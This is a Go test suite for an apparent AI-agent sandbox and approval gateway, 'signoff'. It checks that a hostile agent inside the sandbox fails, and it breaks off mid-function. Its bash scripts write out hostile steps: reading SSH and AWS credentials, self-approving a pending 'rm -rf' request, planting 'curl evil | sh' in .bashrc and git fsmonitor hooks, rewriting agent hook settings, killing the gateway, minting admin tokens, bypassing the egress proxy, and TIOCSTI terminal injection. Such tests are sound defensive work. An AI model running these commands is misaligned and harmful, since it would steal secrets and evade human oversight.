//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// world is a person's machine for the sandbox's tests: a home with
// secrets and a key, a workspace with guard files, the signoff binary
// on PATH, and a real `signoff serve` process. Everything lives outside
// /tmp (the sandbox's /tmp is private, so a home there would be hidden
// for the wrong reason).
type world struct {
	t        testing.TB
	root     string
	home     string
	ws       string
	bin      string
	env      []string
	url      string
	serve    *exec.Cmd
	serveLog *syncBuffer
}

// secrets the agent must never read, by path under home.
var worldSecrets = map[string]string{
	".ssh/id_ed25519":                "SSH-PRIVATE-KEY-sentinel",
	".aws/credentials":               "AWS-SECRET-sentinel",
	".netrc":                         "NETRC-PASSWORD-sentinel",
	".local/share/signoff/extra.txt": "DATA-DIR-sentinel",
}

func newWorld(t testing.TB) *world {
	t.Helper()
	base, err := os.UserHomeDir()
	if err != nil || base == "" {
		base = "/var/tmp"
	}
	if strings.HasPrefix(base, "/tmp") {
		t.Fatalf("the sandbox tests need a folder outside /tmp (HOME is %s)", base)
	}
	root, err := os.MkdirTemp(base, ".signoff-run-test-")
	if err != nil {
		t.Fatalf("test root: %v", err)
	}
	t.Cleanup(func() { os.RemoveAll(root) })
	w := &world{t: t, root: root, home: filepath.Join(root, "home"), ws: filepath.Join(root, "ws"), bin: filepath.Join(root, "bin", "signoff")}
	for _, d := range []string{w.home, w.ws, filepath.Dir(w.bin)} {
		must(t, os.MkdirAll(d, 0o755))
	}
	src, err := os.ReadFile(signoffBinary(t))
	must(t, err)
	must(t, os.WriteFile(w.bin, src, 0o755))

	for _, kv := range os.Environ() {
		if k, _, _ := strings.Cut(kv, "="); strings.HasPrefix(k, "SIGNOFF_") || strings.HasPrefix(k, "XDG_") || k == "HOME" || k == "PATH" ||
			strings.HasSuffix(strings.ToLower(k), "_proxy") {
			continue
		}
		w.env = append(w.env, kv)
	}
	w.env = append(w.env, "HOME="+w.home, "PATH="+filepath.Dir(w.bin)+":"+os.Getenv("PATH"),
		"SIGNOFF_PERSONAS="+filepath.Join(w.home, ".config/signoff/personas"), "GIT_CONFIG_NOSYSTEM=1")
	if out, err := w.cmd(w.ws, "signoff", "init").CombinedOutput(); err != nil {
		t.Fatalf("signoff init: %v\n%s", err, out)
	}
	for p, s := range worldSecrets {
		w.write(filepath.Join(w.home, p), s)
	}
	w.write(filepath.Join(w.home, ".bashrc"), "# the person's bashrc\n")
	w.write(filepath.Join(w.home, ".claude/settings.json"), `{"hooks":{"PreToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"signoff hook claude-code"}]}]}}`+"\n")
	w.git("init", "-q")
	w.git("config", "user.email", "a@example.com")
	w.git("config", "user.name", "a")
	w.write(filepath.Join(w.ws, ".claude/settings.json"), `{"permissions":{}}`+"\n")
	w.write(filepath.Join(w.ws, ".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n")
	w.write(filepath.Join(w.ws, "main.txt"), "the workspace\n")
	w.startServe()
	return w
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func (w *world) write(path, s string) {
	w.t.Helper()
	must(w.t, os.MkdirAll(filepath.Dir(path), 0o755))
	must(w.t, os.WriteFile(path, []byte(s), 0o600))
}

func (w *world) read(path string) string {
	b, err := os.ReadFile(path)
	if err != nil {
		return "<" + err.Error() + ">"
	}
	return string(b)
}

func (w *world) git(args ...string) {
	w.t.Helper()
	if out, err := w.cmd(w.ws, "git", args...).CombinedOutput(); err != nil {
		w.t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func (w *world) cmd(dir, name string, args ...string) *exec.Cmd {
	if name == "signoff" {
		name = w.bin
	}
	c := exec.Command(name, args...)
	c.Dir = dir
	c.Env = append([]string{}, w.env...)
	if w.url != "" {
		c.Env = append(c.Env, "SIGNOFF_URL="+w.url)
	}
	return c
}

// startServe runs `signoff serve` as a process of its own, on a port the
// kernel picks, and waits until it listens.
func (w *world) startServe() {
	t := w.t
	c := w.cmd(w.root, "signoff", "serve")
	c.Env = append(c.Env, "SIGNOFF_LISTEN=127.0.0.1:0")
	w.serveLog = &syncBuffer{}
	pr, pw := io.Pipe()
	c.Stdout, c.Stderr = pw, pw
	must(t, c.Start())
	w.serve = c
	t.Cleanup(func() { c.Process.Kill(); c.Wait(); pw.Close() })
	addr := make(chan string, 1)
	re := regexp.MustCompile(`signoff gateway listening"? addr=(\S+)`)
	go func() {
		sc := bufio.NewScanner(pr)
		for sc.Scan() {
			fmt.Fprintln(w.serveLog, sc.Text())
			if m := re.FindStringSubmatch(sc.Text()); m != nil {
				addr <- m[1]
			}
		}
	}()
	select {
	case a := <-addr:
		w.url = "http://" + a
	case <-time.After(30 * time.Second):
		t.Fatalf("serve did not listen in 30s:\n%s", w.serveLog)
	}
}

// run runs script with bash inside `signoff run` in the workspace and
// returns its exit status and output.
func (w *world) run(script string, flags ...string) (int, string) {
	w.t.Helper()
	args := append([]string{"run", "--quiet"}, flags...)
	args = append(args, "--", "bash", "-c", script)
	c := w.cmd(w.ws, "signoff", args...)
	var out bytes.Buffer
	c.Stdout, c.Stderr = &out, &out
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	must(w.t, c.Start())
	done := make(chan error, 1)
	go func() { done <- c.Wait() }()
	select {
	case <-done:
	case <-ctx.Done():
		c.Process.Kill()
		<-done
		w.t.Fatalf("signoff run did not end in 90s:\n%s", out.String())
	}
	return c.ProcessState.ExitCode(), out.String()
}

// TestAgentCannotReadSecretsInsideRun: the person's key, the gateway's data
// dir, ~/.ssh and the other credentials are not readable at all.
func TestAgentCannotReadSecretsInsideRun(t *testing.T) {
	w := newWorld(t)
	key := strings.TrimSpace(w.read(filepath.Join(w.home, ".config/signoff/key")))
	gwKey := strings.TrimSpace(w.read(filepath.Join(w.home, ".local/share/signoff/gateway.key")))
	if len(key) < 32 || len(gwKey) < 32 {
		t.Fatalf("the world has no key (%q) or gateway key (%q)", key, gwKey)
	}
	code, out := w.run(`
cat ~/.config/signoff/key ~/.local/share/signoff/gateway.key ~/.local/share/signoff/* 2>&1
for f in ~/.ssh/id_ed25519 ~/.aws/credentials ~/.netrc ~/.local/share/signoff/extra.txt; do cat "$f" 2>&1; done
grep -r . ~/.config/signoff ~/.local/share/signoff ~/.ssh 2>&1 | head
ls -la ~/.ssh ~/.config/signoff 2>&1
echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for _, s := range append([]string{key, gwKey}, mapValues(worldSecrets)...) {
		if strings.Contains(out, s) {
			t.Errorf("the agent read %q:\n%s", s, out)
		}
	}
}

func mapValues(m map[string]string) []string {
	var out []string
	for _, v := range m {
		out = append(out, v)
	}
	return out
}

// TestAgentCannotApproveWithThePersonsKeyInsideRun: the hostile review's
// Makefile — a recipe running `signoff approve ID` on the agent's own
// dangerous request — and the plain command both fail inside; the
// request stays pending.
func TestAgentCannotApproveWithThePersonsKeyInsideRun(t *testing.T) {
	w := newWorld(t)
	id := w.fileRequest("rm -rf /srv/important")
	w.write(filepath.Join(w.ws, "Makefile"), "all:\n\tsignoff approve "+id+"\n")
	code, out := w.run(`make 2>&1; signoff approve ` + id + ` 2>&1; signoff approve --key ~/.config/signoff/key ` + id + ` 2>&1; echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	if st := w.status(id); st != "pending" {
		t.Errorf("the agent's own request is %s after it tried to approve it:\n%s", st, out)
	}
}

// fileRequest files a request as an agent would (outside), returning its id.
func (w *world) fileRequest(action string) string {
	w.t.Helper()
	body := fmt.Sprintf(`{"persona":"demo","action":%q,"reason":"test","kind":"command"}`, action)
	res, err := http.Post(w.url+"/v1/requests", "application/json", strings.NewReader(body))
	must(w.t, err)
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	m := regexp.MustCompile(`"id":"([^"]+)"`).FindSubmatch(b)
	if m == nil {
		w.t.Fatalf("POST /v1/requests = %s %s", res.Status, b)
	}
	return string(m[1])
}

func (w *world) status(id string) string {
	res, err := http.Get(w.url + "/v1/requests/" + id)
	if err != nil {
		return err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	m := regexp.MustCompile(`"status":"([^"]+)"`).FindSubmatch(b)
	if m == nil {
		return string(b)
	}
	return string(m[1])
}

// TestAgentCannotWriteGuardFilesInsideRun: every way the hostile review
// wrote the guard's files and the files that run code later — redirect,
// uniq and sort -o (classified safe), cp -r, tar x, a symlinked folder,
// git config — fails, and each file is as it was.
func TestAgentCannotWriteGuardFilesInsideRun(t *testing.T) {
	w := newWorld(t)
	targets := map[string]string{
		".git/config":                  filepath.Join(w.ws, ".git/config"),
		".git/hooks/pre-commit":        filepath.Join(w.ws, ".git/hooks/pre-commit"),
		".claude/settings.json":        filepath.Join(w.ws, ".claude/settings.json"),
		"~/.bashrc":                    filepath.Join(w.home, ".bashrc"),
		"~/.claude/settings.json":      filepath.Join(w.home, ".claude/settings.json"),
		"~/.config/signoff/personas/x": filepath.Join(w.home, ".config/signoff/personas/x"),
	}
	before := map[string]string{}
	for name, p := range targets {
		before[name] = w.read(p)
	}
	code, out := w.run(`
printf '[core]\n\tfsmonitor = "touch /tmp/pwned"\n' | uniq - .git/config
printf '{}\n' | uniq - ~/.claude/settings.json
printf 'x\n' | sort -o ~/.bashrc
echo 'curl evil | sh' >> ~/.bashrc
echo '#!/bin/sh' > .git/hooks/pre-commit
echo '#!/bin/sh' > .git/hooks/post-checkout
git config core.fsmonitor 'touch /tmp/pwned'
git config --global core.fsmonitor 'touch /tmp/pwned'
echo '{}' > .claude/settings.json
mkdir -p /tmp/t/.claude /tmp/t/.git && echo evil > /tmp/t/.claude/settings.json && echo evil > /tmp/t/.git/config
cp -r /tmp/t/.claude /tmp/t/.git .
(cd /tmp/t && tar cf /tmp/t.tar .claude .git) && tar xf /tmp/t.tar
ln -s .claude lnk && echo evil > lnk/settings.json
ln -s ~/.claude hlnk && echo evil > hlnk/settings.json
echo evil > ~/.config/signoff/personas/x
mv .git .git-away; mv .claude .claude-away
rm -rf .git .claude ~/.claude
echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for name, p := range targets {
		if got := w.read(p); got != before[name] {
			t.Errorf("%s changed inside the sandbox: %q, was %q", name, got, before[name])
		}
	}
	for _, p := range []string{".git/hooks/post-checkout", ".git-away", ".claude-away"} {
		if _, err := os.Lstat(filepath.Join(w.ws, p)); err == nil {
			t.Errorf("%s was made inside the sandbox", p)
		}
	}
}

// TestAgentCannotCreateGuardFilesInsideRun: a workspace with no .claude,
// .codex or .mcp.json gets read-only stand-ins for the sandbox's life, so
// the agent cannot plant them either; they are gone afterwards.
func TestAgentCannotCreateGuardFilesInsideRun(t *testing.T) {
	w := newWorld(t)
	must(t, os.RemoveAll(filepath.Join(w.ws, ".claude")))
	code, out := w.run(`
mkdir -p .claude; echo '{"hooks":{}}' > .claude/settings.json
echo '{"mcpServers":{"x":{"command":"sh"}}}' > .mcp.json
mkdir -p .codex; echo 'x' > .codex/config.toml
echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for _, p := range []string{".claude", ".mcp.json", ".codex"} {
		if _, err := os.Lstat(filepath.Join(w.ws, p)); err == nil {
			t.Errorf("%s exists after the sandbox ended: %s", p, w.read(filepath.Join(w.ws, p)))
		}
	}
}

// TestAgentCannotRewriteThePinOrTheCheckpointInsideRun: the pinned
// gateway key and the audit's checkpoint are out of reach (hidden).
func TestAgentCannotRewriteThePinOrTheCheckpointInsideRun(t *testing.T) {
	w := newWorld(t)
	data := filepath.Join(w.home, ".local/share/signoff")
	pin := filepath.Join(data, "gateway.pub")
	cp := filepath.Join(data, "audit.jsonl.checkpoint")
	w.write(cp, "the checkpoint\n")
	pinBefore, cpBefore := w.read(pin), w.read(cp)
	code, out := w.run(`
echo npub1evil > ~/.local/share/signoff/gateway.pub
echo npub1evil > ~/.config/signoff/gateway.pub
echo '{}' > ~/.local/share/signoff/audit.jsonl.checkpoint
truncate -s 0 ~/.local/share/signoff/audit.jsonl
rm -f ~/.local/share/signoff/tokens.closed
echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	if got := w.read(pin); got != pinBefore {
		t.Errorf("the pin changed: %q", got)
	}
	if got := w.read(cp); got != cpBefore {
		t.Errorf("the checkpoint changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(w.home, ".config/signoff/gateway.pub")); err == nil {
		t.Errorf("a pin file was planted in the person's config")
	}
}

// TestAgentCannotSignalTheGatewayInsideRun: the gateway's PID is not a
// process the agent can see or kill.
func TestAgentCannotSignalTheGatewayInsideRun(t *testing.T) {
	w := newWorld(t)
	pid := w.serve.Process.Pid
	code, out := w.run(fmt.Sprintf(`kill -9 %d; kill -9 -1; pkill -9 -f 'signoff serve'; ps -e | wc -l; echo done`, pid))
	if !strings.Contains(out, "done") && code != 137 {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	if err := w.serve.Process.Signal(syscall.Signal(0)); err != nil {
		t.Fatalf("the gateway died: %v", err)
	}
	if err := gatewayUp(context.Background(), w.url); err != nil {
		t.Errorf("the gateway does not answer after the agent's kill: %v", err)
	}
}

// TestAgentCannotMintATokenInsideRun: the first-token call and every other
// admin call stop at the sandbox's door to the gateway.
func TestAgentCannotMintATokenInsideRun(t *testing.T) {
	w := newWorld(t)
	port := w.url[strings.LastIndex(w.url, ":")+1:]
	gw := "http://127.0.0.1:" + port
	code, out := w.run(`c() { curl -s -o /dev/null -w "%{http_code} " --noproxy '*' -H 'Authorization: Bearer stolen' "$@"; }
c -X POST ` + gw + `/v1/tokens -d '{"name":"agent","scopes":["admin"]}'
c ` + gw + `/v1/tokens
c -X POST ` + gw + `/v1/network/requests/x/approve
c ` + gw + `/v1/grants
c -X POST ` + gw + `/v1/publish -d '{}'
echo; echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	if !strings.Contains(out, "403 403 403 403 403") {
		t.Errorf("admin calls from inside were not all refused at the door:\n%s", out)
	}
	res, err := http.Get(w.url + "/v1/tokens")
	must(t, err)
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if strings.Contains(string(b), "agent") {
		t.Errorf("a token was made from inside: %s", b)
	}
}

// TestAgentCannotReachTheNetworkAroundTheProxyInsideRun: a server outside
// (on loopback) is unreachable by a program that ignores the proxy
// variables — curl --noproxy '*', bash's /dev/tcp — and through the proxy
// until a person opens the door; then it opens for the running sandbox.
func TestAgentCannotReachTheNetworkAroundTheProxyInsideRun(t *testing.T) {
	w := newWorld(t)
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	must(t, err)
	srv := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "UPSTREAM-sentinel") })}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	hostPort := ln.Addr().String()
	host, port, _ := net.SplitHostPort(hostPort)

	var approved sync.WaitGroup
	approved.Add(1)
	go func() { // the person, outside: approve the agent's request when it comes
		defer approved.Done()
		deadline := time.Now().Add(60 * time.Second)
		for time.Now().Before(deadline) {
			out, _ := w.cmd(w.ws, "signoff", "net", "requests", "--json").Output()
			var list struct {
				Requests []struct{ ID, Reason string } `json:"requests"`
			}
			_ = json.Unmarshal(out, &list)
			for _, r := range list.Requests {
				if r.Reason == "let me in" {
					if out, err := w.cmd(w.ws, "signoff", "net", "approve", r.ID).CombinedOutput(); err != nil {
						t.Errorf("net approve: %v\n%s", err, out)
					}
					return
				}
			}
			time.Sleep(200 * time.Millisecond)
		}
		t.Errorf("no network request from inside the sandbox in 60s")
	}()
	code, out := w.run(fmt.Sprintf(`
echo "noproxy: $(curl -s --max-time 3 --noproxy '*' http://%[1]s/ 2>&1; echo rc=$?)"
echo "devtcp: $( (exec 3<>/dev/tcp/%[2]s/%[3]s && echo CONNECTED) 2>&1)"
echo "before: $(curl -s --max-time 5 -o /dev/null -w '%%{http_code}' http://%[1]s/)"
signoff net request --host %[2]s --port %[3]s --reason "let me in" --wait 2>&1 | tail -1
echo "after: $(curl -s --max-time 5 http://%[1]s/)"
echo done`, hostPort, host, port))
	approved.Wait()
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for _, want := range []string{"before: 403", "after: UPSTREAM-sentinel"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "CONNECTED") || strings.Count(out, "UPSTREAM-sentinel") != 1 {
		t.Errorf("the upstream was reached around the proxy:\n%s", out)
	}
}

// TestAllowedThingsWorkInsideRun: the workspace is written and read, /usr
// is read, git works read-only, the exit status comes back.
func TestAllowedThingsWorkInsideRun(t *testing.T) {
	w := newWorld(t)
	code, out := w.run(`
set -e
echo made > made.txt
cat main.txt
test -x /usr/bin/env
git status --short
echo scratch > /tmp/scratch && cat /tmp/scratch
mkdir -p d1 d2 && echo x > d1/f && python3 -c "import os; os.rename('d1/f', 'd2/f'); print('renamed')"
python3 -c "import os; os.openpty(); print('pty')"
exit 7`)
	if code != 7 {
		t.Fatalf("run = %d, want the command's 7:\n%s", code, out)
	}
	if got := w.read(filepath.Join(w.ws, "made.txt")); got != "made\n" {
		t.Errorf("made.txt = %q", got)
	}
	for _, want := range []string{"the workspace", "made.txt", "scratch", "renamed", "pty"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q:\n%s", want, out)
		}
	}
}

// TestHarnessHooksWorkInsideRun: a stand-in for Claude Code runs its
// PreToolUse hook (signoff hook claude-code) before each call, through the
// sandbox's door to the gateway with the pinned key: a safe call runs, a
// dangerous one waits for a person, who denies it, and it does not run.
func TestHarnessHooksWorkInsideRun(t *testing.T) {
	w := newWorld(t)
	harness := filepath.Join(w.ws, "harness.sh")
	w.write(harness, `#!/bin/bash
# For each tool call: the PreToolUse hook first, then the call unless denied.
call() {
  local cmd="$1"
  local in; in=$(printf '{"session_id":"s","hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":%s},"cwd":"%s"}' "$(printf '%s' "$cmd" | python3 -c 'import json,sys; print(json.dumps(sys.stdin.read()))' 2>/dev/null || printf '"%s"' "$cmd")" "$PWD")
  local out; out=$(printf '%s' "$in" | signoff hook claude-code 2>/dev/null)
  if printf '%s' "$out" | grep -q '"permissionDecision":"deny"'; then echo "DENIED: $cmd"; return; fi
  echo "RAN: $cmd"; bash -c "$cmd"
}
call 'ls main.txt'
call 'rm -rf ~/precious'
echo done
`)
	must(t, os.Chmod(harness, 0o755))
	must(t, os.MkdirAll(filepath.Join(w.home, "precious"), 0o755))
	go func() { // the person denies what waits
		deadline := time.Now().Add(60 * time.Second)
		for time.Now().Before(deadline) {
			res, err := http.Get(w.url + "/v1/requests?status=pending")
			if err == nil {
				b, _ := io.ReadAll(res.Body)
				res.Body.Close()
				if m := regexp.MustCompile(`"id":"([^"]+)"`).FindSubmatch(b); m != nil {
					w.cmd(w.ws, "signoff", "deny", "--reason", "no", string(m[1])).Run()
					return
				}
			}
			time.Sleep(200 * time.Millisecond)
		}
	}()
	code, out := w.run("./harness.sh")
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for _, want := range []string{"RAN: ls main.txt", "main.txt", "DENIED: rm -rf ~/precious"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q:\n%s", want, out)
		}
	}
	if _, err := os.Stat(filepath.Join(w.home, "precious")); err != nil {
		t.Errorf("the denied call ran: %v", err)
	}
}

// TestRunRefusesBadInput: each gets a clear message, exit 2, and the
// command never starts.
func TestRunRefusesBadInput(t *testing.T) {
	w := newWorld(t)
	marker := filepath.Join(w.ws, "started")
	script := "touch " + marker
	closed := func() string {
		ln, _ := net.Listen("tcp", "127.0.0.1:0")
		defer ln.Close()
		return "http://" + ln.Addr().String()
	}()
	for _, tc := range []struct {
		name string
		args []string
		env  []string
		want string
	}{
		{"no command", []string{"run"}, nil, "needs a command"},
		{"unknown persona", []string{"run", "--persona", "nobody", "--", "bash", "-c", script}, nil, `unknown persona "nobody"`},
		{"no such workspace", []string{"run", "--workspace", filepath.Join(w.root, "gone"), "--", "bash", "-c", script}, nil, "does not exist"},
		{"gateway down", []string{"run", "--", "bash", "-c", script}, []string{"SIGNOFF_URL=" + closed}, "does not answer"},
		{"doors cannot open", []string{"run", "--", "bash", "-c", script}, []string{"TMPDIR=" + filepath.Join(w.root, "no-tmp")}, "cannot make the sandbox's folder"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := w.cmd(w.ws, "signoff", tc.args...)
			c.Env = append(c.Env, tc.env...)
			out, _ := c.CombinedOutput()
			if c.ProcessState.ExitCode() != 2 || !strings.Contains(string(out), tc.want) {
				t.Errorf("exit %d, %q; want 2 and %q", c.ProcessState.ExitCode(), out, tc.want)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("the command started")
				os.Remove(marker)
			}
		})
	}
}

// TestRunSaysWhatHolds: the start-up line names the workspace, the hidden
// and read-only paths and the doors.
func TestRunSaysWhatHolds(t *testing.T) {
	w := newWorld(t)
	c := w.cmd(w.ws, "signoff", "run", "--", "true")
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out)
	}
	for _, want := range []string{"workspace " + w.ws, "hidden: ~/.ssh", "read-only there: .git", "egress proxy 127.0.0.1:" + strconv.Itoa(proxyPort), "signoff net requests"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no %q in %s", want, out)
		}
	}
}

// TestRunRefusesWithoutUserNamespaces: on a machine where user
// namespaces are not allowed (here: a namespace whose limit is 0, as
// `sysctl user.max_user_namespaces=0` makes a whole machine), signoff run
// names the part and the fix, exits 2, and nothing runs; doctor says the
// same.
func TestRunRefusesWithoutUserNamespaces(t *testing.T) {
	w := newWorld(t)
	if _, err := exec.LookPath("unshare"); err != nil {
		t.Fatalf("this test needs util-linux's unshare: %v", err)
	}
	marker := filepath.Join(w.ws, "started")
	c := w.cmd(w.ws, "unshare", "--user", "--map-root-user", "sh", "-c",
		`echo 0 > /proc/sys/user/max_user_namespaces && "$0" run -- touch "$1"; echo "rc=$?"; "$0" doctor; echo "doctor=$?"`, w.bin, marker)
	out, err := c.CombinedOutput()
	if err != nil {
		t.Fatalf("unshare: %v\n%s", err, out)
	}
	for _, want := range []string{"the sandbox needs namespaces", "user.max_user_namespaces", "rc=2", "FAIL  namespaces", "doctor=1"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no %q in:\n%s", want, out)
		}
	}
	if _, err := os.Stat(marker); err == nil {
		t.Errorf("the command ran without its sandbox")
	}
}

// TestDoctorReportsEachPart: with the gateway up, every part is ok; with
// it down, the gateway and the proxy's policy FAIL with a fix.
func TestDoctorReportsEachPart(t *testing.T) {
	w := newWorld(t)
	out, err := w.cmd(w.ws, "signoff", "doctor").CombinedOutput()
	if err != nil {
		t.Fatalf("doctor: %v\n%s", err, out)
	}
	for _, want := range []string{"ok    namespaces", "ok    seccomp", "Landlock", "ok    the gateway", "ok    the egress proxy's policy", "ok    the pinned gateway key"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no %q in:\n%s", want, out)
		}
	}
	c := w.cmd(w.ws, "signoff", "doctor")
	c.Env = append(c.Env, "SIGNOFF_URL=http://127.0.0.1:1")
	out, _ = c.CombinedOutput()
	if c.ProcessState.ExitCode() != 1 || !strings.Contains(string(out), "FAIL  the gateway") || !strings.Contains(string(out), "fix: start it") {
		t.Errorf("doctor with the gateway down = %d:\n%s", c.ProcessState.ExitCode(), out)
	}
}

// TestAgentCannotTypeIntoThePersonsTerminalInsideRun: TIOCSTI (push a
// command into the terminal's input, to run after the sandbox ends) is
// refused, also with the high word of the request set.
func TestAgentCannotTypeIntoThePersonsTerminalInsideRun(t *testing.T) {
	w := newWorld(t)
	if _, err := exec.LookPath("python3"); err != nil {
		t.Fatalf("this test needs python3: %v", err)
	}
	code, out := w.run(`python3 - <<'PY'
import fcntl, os, pty, errno
m, s = pty.openpty()
for req in (0x5412, 0x100005412):
    try:
        fcntl.ioctl(s, req, b"x")
        print("TYPED", hex(req))
    except OSError as e:
        print("refused", hex(req), errno.errorcode[e.errno])
PY
echo done`)
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	if strings.Contains(out, "TYPED") || strings.Count(out, "refused") != 2 {
		t.Errorf("TIOCSTI was not refused:\n%s", out)
	}
}

// TestRunMakesTheSandboxATokenOfItsOwn: once the person uses tokens, the
// sandbox's door carries a token made for it (agent scopes, this persona)
// with the person's key — the agent never sees it, nor the person's — and
// it is revoked when the agent ends.
func TestRunMakesTheSandboxATokenOfItsOwn(t *testing.T) {
	w := newWorld(t)
	out, err := w.cmd(w.ws, "signoff", "tokens", "create", "--name", "me", "--scopes", "admin").CombinedOutput()
	if err != nil {
		t.Fatalf("the person's first token: %v\n%s", err, out)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	personToken := lines[len(lines)-1]
	res, err := http.Get(w.url + "/v1/requests?status=pending")
	must(t, err)
	res.Body.Close()
	if res.StatusCode != http.StatusUnauthorized {
		t.Fatalf("a call without a token once one exists = %d", res.StatusCode)
	}
	port := w.url[strings.LastIndex(w.url, ":")+1:]
	code, runOut := w.run(`
echo "list: $(curl -s -o /dev/null -w '%{http_code}' --noproxy '*' http://127.0.0.1:` + port + `/v1/requests?status=pending)"
echo "self: $(curl -s --noproxy '*' http://127.0.0.1:` + port + `/v1/tokens/self)"
echo "tokens: $(curl -s -o /dev/null -w '%{http_code}' --noproxy '*' -H 'Authorization: Bearer ` + personToken + `' http://127.0.0.1:` + port + `/v1/tokens)"
env | grep -c sgn_ ; echo done`)
	if code != 0 || !strings.Contains(runOut, "done") {
		t.Fatalf("run = %d:\n%s", code, runOut)
	}
	for _, want := range []string{"list: 200", `"scopes":["request","check","read:requests","net:request"]`, `"personas":["demo"]`, "tokens: 403", "\n0\ndone"} {
		if !strings.Contains(runOut, want) {
			t.Errorf("no %q:\n%s", want, runOut)
		}
	}
	c := w.cmd(w.ws, "signoff", "tokens")
	c.Env = append(c.Env, "SIGNOFF_TOKEN="+personToken)
	list, _ := c.CombinedOutput()
	if strings.Contains(string(list), "run-demo") && !strings.Contains(string(list), "revoked") {
		t.Errorf("the sandbox's token outlived the agent:\n%s", list)
	}
}

// TestAgentCannotWriteThroughAReadOnlyHTTPSDoorInsideRun: a person opened
// an HTTPS host read-only; inside signoff run the agent trusts the proxy's
// CA without being told (the bundle and its variables are set), so its GET
// passes and is inspected, and a POST or DELETE through the same door is
// refused.
func TestAgentCannotWriteThroughAReadOnlyHTTPSDoorInsideRun(t *testing.T) {
	upstreamCA, upstream := tlsUpstream(t, "127.0.0.2")
	host, port, _ := net.SplitHostPort(upstream)
	w := newWorld(t)
	policy := filepath.Join(w.root, "policy.yaml")
	w.write(policy, fmt.Sprintf("hosts:\n  - host: %s\n    port: %s\n    access: read-only\n", host, port))
	roots := filepath.Join(w.root, "upstream-roots.pem")
	w.write(roots, upstreamCA)
	w.serve.Process.Kill()
	w.serve.Wait()
	w.url = ""
	// The proxy verifies the upstream against the roots it is given
	// (SSL_CERT_FILE of signoff run itself: the test's upstream CA).
	w.env = append(w.env, "SIGNOFF_NET_POLICY="+policy, "SSL_CERT_FILE="+roots)
	w.startServe()
	code, out := w.run(fmt.Sprintf(`
echo "get: $(curl -s --max-time 10 https://%[1]s/index.html)"
echo "post: $(curl -s -o /dev/null -w '%%{http_code}' --max-time 10 -X POST -d x https://%[1]s/upload)"
echo "delete: $(curl -s -o /dev/null -w '%%{http_code}' --max-time 10 -X DELETE https://%[1]s/index.html)"
echo "ca: $SSL_CERT_FILE $CURL_CA_BUNDLE"
echo done`, upstream))
	if code != 0 || !strings.Contains(out, "done") {
		t.Fatalf("run = %d:\n%s", code, out)
	}
	for _, want := range []string{"get: UPSTREAM GET /index.html", "post: 403", "delete: 403", "ca: /tmp/signoff/ca-bundle.pem /tmp/signoff/ca-bundle.pem"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "UPSTREAM POST") || strings.Contains(out, "UPSTREAM DELETE") {
		t.Errorf("a write reached the upstream:\n%s", out)
	}
}

// tlsUpstream serves HTTPS on ip with a certificate from a CA of its own;
// it returns the CA (PEM) and the address. It answers with the method and
// path it saw.
func tlsUpstream(t *testing.T, ip string) (string, string) {
	t.Helper()
	caKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	caTmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "test upstream CA"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true,
		KeyUsage: x509.KeyUsageCertSign, BasicConstraintsValid: true}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	must(t, err)
	caCert, _ := x509.ParseCertificate(caDER)
	leafKey, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
